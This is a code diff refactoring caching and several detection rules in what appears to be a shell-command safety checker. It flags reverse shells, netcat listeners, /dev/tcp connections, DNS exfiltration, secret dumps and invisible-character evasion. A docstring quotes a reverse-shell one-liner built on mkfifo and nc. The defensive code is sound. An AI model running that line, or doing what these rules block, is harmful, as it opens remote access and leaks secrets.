@@ -27,7 +27,6 @@ from __future__ import annotations
 import math
 import os
 import re
-import threading
 from collections.abc import Iterable, Iterator
 from functools import lru_cache
 
@@ -35,6 +34,7 @@ from limen.context import Context
 from limen.model import Action, Command, Finding, ReasonCode, Verdict
 from limen.normalize.paths import canonical, is_within
 from limen.rules import rule
+from limen.rules.derived import memo
 
 SHELL_NAMES = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "yash", "rbash", "fish"})
 _INTERPRETER = re.compile(
@@ -187,21 +187,16 @@ def _is_dangerous(path: str, action: Action, ctx: Context) -> bool:
     return (path.rstrip("/") or "/") in _dangerous_set(ctx.home, ctx.workspace)
 
 
-# Canonical operands of the action being decided: several rules resolve the same word, and resolving is
-# `realpath` (a system call per path component). Scoped to one action object, per thread.
-_resolved = threading.local()
-
-
 def _target(word: str, action: Action, ctx: Context) -> str:
+    """The canonical path an operand names; several rules resolve the same operand (a `realpath`, one
+    system call per path component), so it is resolved once per action."""
     if word.endswith("/*") or word in ("*", ".*", "*/"):
         word = word[:-2] or "." if word.endswith("/*") else "."
     key = (word, action.cwd or ctx.workspace or "/", ctx.home)
-    if getattr(_resolved, "action", None) is not action:
-        _resolved.action, _resolved.paths = action, {}
-    paths: dict[tuple[str, str, str], str] = _resolved.paths
-    path = paths.get(key)
+    facts = memo(action)
+    path: str | None = facts.get(key)
     if path is None:
-        path = paths[key] = canonical(*key)
+        path = facts[key] = canonical(*key)
     return path
 
 
@@ -222,12 +217,14 @@ def _is_shell(command: Command) -> bool:
     return command.name in SHELL_NAMES
 
 
-def _texts(action: Action) -> Iterator[str]:
+def _texts(action: Action) -> tuple[str, ...]:
     """Program text a line carries: interpreter arguments and payloads (echo text, heredocs, decoded data)."""
-    for command in action.commands:
-        if _INTERPRETER.match(command.name):
-            yield " ".join(command.argv[1:])
-    yield from action.payloads
+    facts = memo(action)
+    texts: tuple[str, ...] | None = facts.get(_texts)
+    if texts is None:
+        code = (" ".join(c.argv[1:]) for c in action.commands if _INTERPRETER.match(c.name))
+        texts = facts[_texts] = (*code, *action.payloads)
+    return texts
 
 
 # --------------------------------------------------------------------------- destructive_command
@@ -575,8 +572,8 @@ def _env_dump(command: Command) -> str:
         return "env"
     if name == "printenv" and (not _operands(command.argv) or any(_SECRET_VAR.search(w) for w in args)):
         return "printenv"
-    bare = not [w for w in args if not w.startswith("-")]
-    if bare and (name == "export" or (name in ("declare", "typeset") and set("xp") & _short_flags(args))):
+    bare = name in ("export", "declare", "typeset") and not [w for w in args if not w.startswith("-")]
+    if bare and (name == "export" or set("xp") & _short_flags(args)):
         return f"{name} {' '.join(args)}".strip()
     if name == "set" and not args:
         return "set"
@@ -870,13 +867,13 @@ def dns_exfiltration(action: Action, ctx: Context) -> Iterator[Finding]:
 
 def _shell_reads_socket(action: Action) -> bool:
     """A shell and a raw network tool in one line (`mkfifo f; sh -i <f | nc host port >f`)."""
-    net = any(c.name in _NET_TOOLS for c in action.commands)
-    shell = any(
+    if not any(c.name in _NET_TOOLS for c in action.commands):
+        return False
+    return any(
         _is_shell(c)
         and ("i" in _short_flags(c.argv[1:]) or len(c.argv) == 1 or c.argv[1] in ("-l", "-li", "-il", "-s"))
         for c in action.commands
     )
-    return net and shell
 
 
 def _remote_shell_block(action: Action) -> str:
@@ -941,12 +938,15 @@ def _ssh_options(argv: tuple[str, ...]) -> list[str]:
     return out
 
 
+_FLAGGED = frozenset({"nc", "ncat", "netcat", "script"})  # whose flags `_remote_shell_auth` reads
+
+
 def _remote_shell_auth(action: Action) -> str:
     if "dev_tcp" in action.notes:
         return "raw /dev/tcp connection"
     for command in action.commands:
         name, argv = command.name, command.argv
-        flags = _short_flags(argv[1:])
+        flags = _short_flags(argv[1:]) if name in _FLAGGED or _is_shell(command) else set()
         if name in ("nc", "ncat", "netcat") and ("l" in flags or "--listen" in argv):
             return f"{name} listens for connections"
         if name in ("nc", "ncat", "netcat", "telnet", "ztcp") and _operands(argv):
@@ -1015,7 +1015,7 @@ def _evasion(command: Command) -> str:
         and any("\x1b" in w or re.search(r"\$\((clear|tput|reset)\b|`(clear|tput|reset)\b", w) for w in args)
     ):
         return "terminal control sequences written into a file"
-    if any(_INVISIBLE.search(w) for w in argv):
+    if _INVISIBLE.search("\n".join(argv)):
         return "invisible characters in a command or file name"
     return ""
 
